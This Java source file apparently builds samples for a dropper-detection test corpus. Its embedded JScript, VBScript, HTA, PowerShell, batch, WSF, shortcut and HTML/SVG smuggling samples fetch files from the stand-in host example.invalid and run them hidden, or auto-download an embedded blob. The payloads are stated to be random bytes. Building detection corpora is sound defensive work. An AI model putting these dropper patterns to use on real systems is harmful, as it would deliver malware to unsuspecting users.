package org.peekaboo.bench;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/**
 * Malicious-style droppers that are not Office documents, for the detection corpus: Windows
 * scripts, shortcuts and HTML smuggling pages as droppers send them. They are harmless text:
 * every address is under example.invalid, and the "payloads" the smuggling pages carry are
 * random bytes behind a zip header, nothing that runs.
 */
public final class DropperFiles {
    private static final String DIRECTORY = "malicious";

    private DropperFiles() {
    }

    /** Every sample, in a fixed order; {@code first} numbers them on from the corpus' other droppers. */
    static List<DropperCorpus.Sample> malicious(int first) {
        String[][] files = {
            {"script-wscript-shell.js", JSCRIPT},
            {"script-download-run.vbs", VBSCRIPT},
            {"script-mshta.hta", HTA},
            {"script-download-cradle.ps1", POWERSHELL},
            {"script-curl-start.cmd", BATCH},
            {"script-wsf-jscript.wsf", WSF},
            {"shortcut-cmd.url", INTERNET_SHORTCUT},
            {"smuggling-blob-download.html", blobSmuggling()},
            {"smuggling-data-url.html", dataUrlSmuggling()},
            {"smuggling-mssaveoropenblob.htm", msSaveSmuggling()},
            {"smuggling-image.svg", svgSmuggling()},
        };
        List<DropperCorpus.Sample> samples = new java.util.ArrayList<>();
        int n = first;
        for (String[] file : files) {
            samples.add(new DropperCorpus.Sample(DIRECTORY, "%02d-%s".formatted(n++, file[0]),
                    file[1].getBytes(StandardCharsets.UTF_8)));
        }
        samples.add(new DropperCorpus.Sample(DIRECTORY, "%02d-shortcut-cmd.lnk".formatted(n++),
                shortcut("..\\..\\..\\Windows\\System32\\cmd.exe",
                        "/c start http://example.invalid/invoice & exit")));
        // The same shortcut under a document's name: the header gives it away.
        samples.add(new DropperCorpus.Sample(DIRECTORY, "%02d-shortcut-powershell.pdf".formatted(n),
                shortcut("..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "-w hidden -c iwr http://example.invalid/p.ps1|iex")));
        return samples;
    }

    static final String JSCRIPT = """
            // Rechnung 2026-11
            var sh = new ActiveXObject("WScript.Shell");
            var x = new ActiveXObject("MSXML2.XMLHTTP");
            x.open("GET", "http://example.invalid/inv.bin", false);
            x.send();
            var s = new ActiveXObject("ADODB.Stream");
            s.Type = 1; s.Open(); s.Write(x.responseBody);
            s.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\inv.exe", 2);
            sh.Run("cmd /c start %TEMP%\\\\inv.exe", 0);
            """;

    static final String VBSCRIPT = """
            Set sh = CreateObject("WScript.Shell")
            Set x = CreateObject("MSXML2.ServerXMLHTTP")
            x.Open "GET", "http://example.invalid/a.bin", False
            x.Send
            sh.Run "rundll32 %TEMP%\\a.dll,Start", 0, False
            """;

    static final String HTA = """
            <html><head><title>Invoice</title>
            <HTA:APPLICATION ID="inv" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
            <script language="VBScript">
            CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://example.invalid/h|iex", 0
            self.close
            </script></head><body></body></html>
            """;

    static final String POWERSHELL = """
            $u = 'http://example.invalid/stage2'
            $p = "$env:TEMP\\upd.exe"
            (New-Object Net.WebClient).DownloadFile($u, $p)
            Start-Process -WindowStyle Hidden $p
            """;

    static final String BATCH = """
            @echo off
            rem Rechnung wird geladen, bitte warten
            curl -s -o "%TEMP%\\i.exe" http://example.invalid/i.exe
            start "" /b "%TEMP%\\i.exe"
            """;

    static final String WSF = """
            <job id="invoice">
              <script language="JScript">
                new ActiveXObject("WScript.Shell").Run("mshta http://example.invalid/x.hta", 0);
              </script>
            </job>
            """;

    static final String INTERNET_SHORTCUT = """
            [InternetShortcut]
            URL=file://example.invalid/share/invoice.exe
            IconIndex=1
            IconFile=C:\\Windows\\System32\\shell32.dll
            """;

    /** A page that decodes an embedded file, makes a Blob of it and clicks a download link. */
    public static String blobSmuggling() {
        return """
                <!DOCTYPE html>
                <html><head><meta charset="utf-8"><title>Secure document</title></head>
                <body><p>Your document is downloading…</p>
                <script>
                var b64 = "%s";
                var raw = atob(b64);
                var bytes = new Uint8Array(raw.length);
                for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }
                var blob = new Blob([bytes], {type: "application/octet-stream"});
                var a = document.createElement("a");
                a.href = window.URL.createObjectURL(blob);
                a.download = "Invoice_2026-11.zip";
                document.body.appendChild(a);
                a.click();
                </script></body></html>
                """.formatted(payload(16 * 1024, 1));
    }

    /** A page whose link carries a zip in a data: URL and saves it under a name. */
    public static String dataUrlSmuggling() {
        return """
                <html><body style="font-family:sans-serif">
                <h2>Shared file</h2>
                <a id="f" download="scan_0412.zip" href="data:application/zip;base64,%s">Download scan_0412.zip</a>
                <script>document.getElementById("f").click();</script>
                </body></html>
                """.formatted(payload(4 * 1024, 2));
    }

    /** The old Internet Explorer and Edge way: hand the Blob to msSaveOrOpenBlob. */
    public static String msSaveSmuggling() {
        return """
                <html><head><script>
                function b64toBytes(s) {
                  var d = window.atob(s), u = new Uint8Array(d.length);
                  for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);
                  return u;
                }
                var data = '%s';
                var file = new Blob([b64toBytes(data)], {type: 'application/x-iso9660-image'});
                if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(file, 'invoice.iso');
                </script></head><body>Loading…</body></html>
                """.formatted(payload(12 * 1024, 3));
    }

    /** The same in an SVG image, whose script runs when the image is opened in a browser. */
    public static String svgSmuggling() {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="400" height="120">
                <text x="10" y="60">Opening your voice message…</text>
                <script type="text/javascript"><![CDATA[
                var d = atob("%s");
                var u = new Uint8Array(d.length);
                for (var i = 0; i < d.length; i++) { u[i] = d.charCodeAt(i); }
                var l = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
                l.href = URL.createObjectURL(new Blob([u], {type: "application/zip"}));
                l.download = "voicemail.zip";
                l.click();
                ]]></script></svg>
                """.formatted(payload(8 * 1024, 4));
    }

    /** Base64 of a zip header followed by random bytes: looks like a payload, is none. */
    private static String payload(int size, long seed) {
        byte[] bytes = new byte[size];
        new Random(seed).nextBytes(bytes);
        System.arraycopy(new byte[] {'P', 'K', 3, 4}, 0, bytes, 0, 4);
        return Base64.getEncoder().encodeToString(bytes);
    }

    /**
     * A Shell Link ([MS-SHLLINK]) of header and string data only: a relative path to
     * {@code target} with {@code arguments}, in Unicode, as shortcut droppers are built.
     */
    public static byte[] shortcut(String target, String arguments) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] header = new byte[0x4C];
        byte[] start = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
        System.arraycopy(start, 0, header, 0, start.length);
        int flags = 0x08 | 0x20 | 0x80; // HasRelativePath, HasArguments, IsUnicode
        header[0x14] = (byte) flags;
        header[0x3C] = 7; // ShowCommand: SW_SHOWMINNOACTIVE, as droppers hide the window
        out.writeBytes(header);
        for (String value : new String[] {target, arguments}) {
            out.write(value.length() & 0xff);
            out.write(value.length() >> 8);
            out.writeBytes(value.getBytes(StandardCharsets.UTF_16LE));
        }
        out.writeBytes(new byte[4]); // no extra data blocks: the terminal block
        return out.toByteArray();
    }
}
